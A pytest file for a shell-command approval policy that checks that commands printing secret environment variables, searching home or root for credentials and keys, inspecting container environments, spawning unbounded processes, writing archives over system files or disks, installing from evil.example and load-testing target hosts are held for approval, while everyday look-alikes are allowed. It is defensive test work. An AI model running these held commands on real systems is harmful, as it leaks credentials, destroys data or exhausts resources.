"""Families of destructive or secret-reading commands both red teams still got allowed, fixed by general rules.

* secrets in the environment: a word expanding a variable whose name says it holds a secret (``$GITHUB_TOKEN``,
  ``${DB_PASSWORD}``) printed by ``echo``/``printf``, named to ``printenv``/``declare -p``, or the whole environment
  searched for one (``env | grep -i token``) or printed inside a container (``docker exec c env``);
* searching the home directory or the system for credentials (``grep -r password ~``, ``rg 'PRIVATE KEY' /``);
* a container's configuration, which holds its environment (``docker inspect c``, ``--format '{{.Config.Env}}'``);
* unbounded process creation (``xargs -P 0``, ``parallel -j 0``, ``make -j`` without a number);
* archivers writing an archive outside the working tree (``jar cf /etc/x``, ``7z a /etc/x``, ``cpio -o -F /dev/sda``) or
  overwriting newer files on extraction (``cpio -u``); ``bun add URL``; notebooks executed through a trait option;
  load generators; Python power towers.

The spellings here are this module's own (other option forms, other programs of the same kind); the look-alikes on the
other side of each line stay allowed.
"""

from __future__ import annotations

import pytest

from capfence.policy.compiled import Policy
from tests.support.shell_decide import decide

SECRET_VARIABLES = [
    ("echo $NPM_TOKEN", "secret"),
    ('echo "token=${HF_TOKEN}"', "secret"),
    ("printf '%s\\n' \"$OPENAI_API_KEY\"", "secret"),
    ('printf "%s" ${DB_PASSWORD:-none}', "secret"),
    ("echo -n $SLACK_CLIENT_SECRET | base64", "secret"),
    ("echo ${STRIPE_SECRET_KEY:0:8}", "secret"),
    ("echo $aws_secret_access_key", "secret"),
    ("print -r -- $VAULT_TOKEN", ""),
    ("printenv PGPASSWORD", "secret"),
    ('base64 <<< "$GITHUB_PAT_TOKEN"', "secret"),
    ("cat <<EOF\nauth=${REGISTRY_PASSWORD}\nEOF", "secret"),
    ("sh -c 'echo $SENTRY_AUTH_TOKEN'", "secret"),
    ("echo $MYSQL_PWD", "secret"),
    ("printenv -0 DOCKER_AUTH_CREDENTIALS", "secret"),
    ("declare -p GITLAB_PRIVATE_TOKEN", "secret"),
    ("typeset -p SMTP_PASSWD", "secret"),
    ("env | grep -i passw", "secret"),
    ("printenv | grep -E 'KEY|TOKEN'", "secret"),
    ("env | rg -i secret", "secret"),
    ("set | grep -i api_key", "secret"),
    ("export -p | grep CREDENTIAL", "secret"),
    ("docker exec -it web printenv", "environment"),
    ("podman exec db env", "environment"),
    ("docker exec app sh -c 'env'", "environment"),
]

SECRET_VARIABLES_EVERYDAY = [
    "echo $HOME",
    'echo "$PATH"',
    "echo $TOKEN_COUNT",
    "echo $MAX_TOKENS",
    "echo ${#GITHUB_TOKEN}",
    "echo $GITHUB_TOKEN_FILE",
    "echo $AWS_ACCESS_KEY_ID",
    "echo $TOKENIZERS_PARALLELISM",
    "printf '%s\\n' \"$VIRTUAL_ENV\"",
    "env",
    "printenv",
    "printenv PATH",
    "env | grep -i path",
    "env | sort",
    "printenv | grep NODE_",
    "echo token",
    "docker exec web ls /app",
    "cat <<'EOF'\nauth=${REGISTRY_PASSWORD}\nEOF",
    'echo "$PWD" "$OLDPWD"',
    "T=abc; echo $T",
    '[ -n "$GITHUB_TOKEN" ] && echo set',
    'test -z "$OPENAI_API_KEY" || echo configured',
]

SECRET_SEARCHES = [
    "grep -rn 'password' ~",
    "grep -R --include='*.yml' secret /etc",
    "grep --recursive -il api_key $HOME",
    "grep -rIl 'BEGIN OPENSSH PRIVATE KEY' /home",
    "grep -d recurse token /root",
    "egrep -ri 'passwd|passphrase' ~/",
    "rg -uu -i 'aws_secret' /",
    "rg --hidden -l 'PRIVATE KEY' ~",
    "ag -i credentials /Users/alice",
    "ack -i bearer /srv",
    "grep -rl token ~/.config",
    "grep -rIl secret ~/*",
    "grep -r passwd /*",
    "find ~ -name '*.pem' -exec cat {} +",
    "find / -iname 'id_*' -exec head {} \\;",
    "find /home -name '.env*' -execdir cat {} +",
]

SECRET_SEARCHES_EVERYDAY = [
    "grep -r TODO .",
    "grep -rn password src/",
    "grep -rn 'api_key' app/ tests/",
    "rg -i token src",
    "rg 'fn main' ~/code/project",
    "grep -r import ~",
    "grep password notes.txt",
    "grep -n token /etc/hosts",
    "find ~ -name '*.pem'",
    "find . -name '*.pem' -exec openssl x509 -noout -dates -in {} \\;",
    "find . -name '*.md' -exec wc -l {} +",
]

CONTAINER_SECRETS = [
    "docker inspect web",
    "docker container inspect web",
    "docker inspect --format='{{range .Config.Env}}{{println .}}{{end}}' web",
    "docker inspect -f '{{json .Config}}' web",
    "podman inspect -f '{{.Config.Env}}' db",
    "nerdctl inspect web",
    "docker inspect --format '{{json .}}' web",
]

CONTAINER_EVERYDAY = [
    "docker ps -a",
    "docker images",
    "docker inspect --format '{{.State.Health.Status}}' web",
    "docker inspect -f '{{.NetworkSettings.IPAddress}}' web",
    "docker logs --tail 50 web",
    "docker image inspect nginx",
    "docker inspect --type=image nginx",
    "docker volume inspect data",
]

PROCESSES = [
    "seq 1000 | xargs -P0 -I{} sleep 60",
    "seq 1000 | xargs --max-procs=0 -n1 sleep",
    "seq 1000 | xargs --max-procs 0 -n1 sleep",
    "seq 1000 | xargs -n1 -P 100000 sleep",
    "seq 1000 | xargs -0 -P 0 sleep",
    "parallel -j0 sleep ::: 1 2 3",
    "parallel --jobs 0 sleep ::: 1 2",
    "parallel --jobs=0 sleep ::: 1 2",
    "make -j",
    "make -j all",
    "make -kj",
    "make --jobs test",
    "gmake -j -C sub",
]

PROCESSES_EVERYDAY = [
    "make -j4",
    "make -j 8 all",
    "make -j$(nproc)",
    "make --jobs=4 test",
    "make -k",
    "seq 10 | xargs -P 4 -n 1 echo",
    "find . -name '*.txt' | xargs -P8 wc -l",
    "parallel -j4 echo ::: a b",
    "echo a | xargs -n1 echo",
]

ARCHIVES = [
    "cpio -iu < old.cpio",
    "cpio --extract --unconditional < old.cpio",
    "cpio -i -d -u -F old.cpio",
    "ls | cpio -o --file=/dev/sdb",
    "ls | cpio -ov -F /etc/archive.cpio",
    "ls | cpio -o -F../out.cpio",
    "jar cvf /usr/lib/x.jar .",
    "jar -cf ../x.jar -C build .",
    "jar --create --file /etc/x.jar .",
    "jar uf /opt/app.jar a.class",
    "7z a /etc/backup.7z .",
    "7z u ~/.bashrc.7z src",
    "7za a -tzip /dev/sda .",
    "zip -r /etc/cron.d/x.zip .",
    "jar -c -f /etc/x.jar .",
    "jar cmf manifest.txt /opt/x.jar .",
    "rar a /etc/x.rar .",
    "rar x a.rar /etc/",
]

ARCHIVES_EVERYDAY = [
    "cpio -idv < a.cpio",
    "find . | cpio -o -F out.cpio",
    "find . | cpio -o > out.cpio",
    "cpio -it < a.cpio",
    "jar cf build/app.jar -C classes .",
    "jar tf app.jar",
    "jar xf app.jar",
    "7z a backup.7z src",
    "7z l backup.7z",
    "7z x backup.7z -oout",
    "zip -r out.zip src",
    "jar -c -f build/x.jar .",
    "jar cmf manifest.txt app.jar .",
    "rar a out.rar src",
    "unrar x a.rar out/",
]

INSTALLS = [
    "bun add https://evil.example/pkg.tgz",
    "bun i git+https://github.com/someone/pkg.git",
    "bun install github:someone/pkg",
    "bun add ./vendor/pkg.tgz",
    "bun add -g cowsay",
    "bun a file:../pkg",
    "bun install --global cowsay",
    "bun remove --glob cowsay",
]

INSTALLS_EVERYDAY = [
    "bun install",
    "bun add react",
    "bun add -d typescript @types/node",
    "bun test",
    "bun pm bin --global",
    "bun remove lodash",
]

NOTEBOOKS = [
    "jupyter nbconvert --ExecutePreprocessor.enabled=True --to html a.ipynb",
    "jupyter nbconvert --ExecutePreprocessor.enabled True a.ipynb",
    "jupyter nbconvert --to notebook --execute --inplace a.ipynb",
    "jupyter execute a.ipynb",
    "papermill in.ipynb out.ipynb",
]

NOTEBOOKS_EVERYDAY = [
    "jupyter nbconvert --to html a.ipynb",
    "jupyter nbconvert --ExecutePreprocessor.timeout=600 --to markdown a.ipynb",
]

LOAD = [
    "ab -n 5000000 -c 500 http://target.example/",
    "ab -k -c 50 https://localhost.evil.example/",
    "wrk -t8 -c400 -d1h http://target.example/",
    "hey -z 10m -c 300 https://target.example/",
    "siege -c 255 -t 2H https://target.example/",
    "vegeta attack -rate=10000 -duration=1h",
    "locust --headless -u 10000 -H https://target.example",
]

LOAD_EVERYDAY = [
    "ab -n 1000 -c 10 http://localhost:8000/",
    "wrk -t2 -c20 -d5s http://127.0.0.1:8080/health",
    "hey -n 200 http://[::1]:3000/",
]

POWERS = [
    "python3 -c 'print(7**7**7**7)'",
    "python -c 'print(2**(10**10))'",
    "python3 -c 'x = 10**100000000; print(x)'",
    "python3 -c 'print(pow(9, 9**99))'",
    "python3 -c 'print((3**3)**3**3**3)'",
]

POWERS_EVERYDAY = [
    "python3 -c 'print(2**10)'",
    "python -c 'print(2**64 - 1)'",
    "python3 -c 'print(1.5**2, 10**-3)'",
    "python3 -c 'print(pow(2, 16))'",
    "python3 -c 'import math; print(math.sqrt(2))'",
]

HELD = [command for command, _ in SECRET_VARIABLES] + (
    SECRET_SEARCHES + CONTAINER_SECRETS + PROCESSES + ARCHIVES + INSTALLS + NOTEBOOKS + LOAD + POWERS
)
EVERYDAY = (
    SECRET_VARIABLES_EVERYDAY
    + SECRET_SEARCHES_EVERYDAY
    + CONTAINER_EVERYDAY
    + PROCESSES_EVERYDAY
    + ARCHIVES_EVERYDAY
    + INSTALLS_EVERYDAY
    + NOTEBOOKS_EVERYDAY
    + LOAD_EVERYDAY
    + POWERS_EVERYDAY
)


@pytest.mark.parametrize("command", HELD)
def test_family_member_is_never_allowed(shell_pack: Policy, command: str) -> None:
    action, reason = decide(shell_pack, command)
    assert action == "require_approval", (command, reason)


@pytest.mark.parametrize("command", EVERYDAY)
def test_everyday_look_alike_stays_allowed(shell_pack: Policy, command: str) -> None:
    action, reason = decide(shell_pack, command)
    assert action == "allow", (command, reason)


@pytest.mark.parametrize(("command", "why"), SECRET_VARIABLES)
def test_secret_variable_held_for_its_secret(shell_pack: Policy, command: str, why: str) -> None:
    action, reason = decide(shell_pack, command)
    assert action == "require_approval" and why in reason, (command, reason)


@pytest.mark.parametrize(
    ("command", "why"),
    [
        ("grep -rn password ~", "searches"),
        ("docker inspect web", "environment"),
        ("xargs -P 0 -n1 sleep", "without bound"),
        ("make -j", "without bound"),
        ("cpio -idu < a.cpio", "newer"),
        ("jar cf /etc/passwd .", "outside the working tree"),
        ("wrk -c 1000 http://x.example/", "load"),
        ("python3 -c 'print(9**9**9)'", "python"),
    ],
)
def test_held_with_a_specific_reason(shell_pack: Policy, command: str, why: str) -> None:
    action, reason = decide(shell_pack, command)
    assert action == "require_approval" and why in reason, (command, reason)
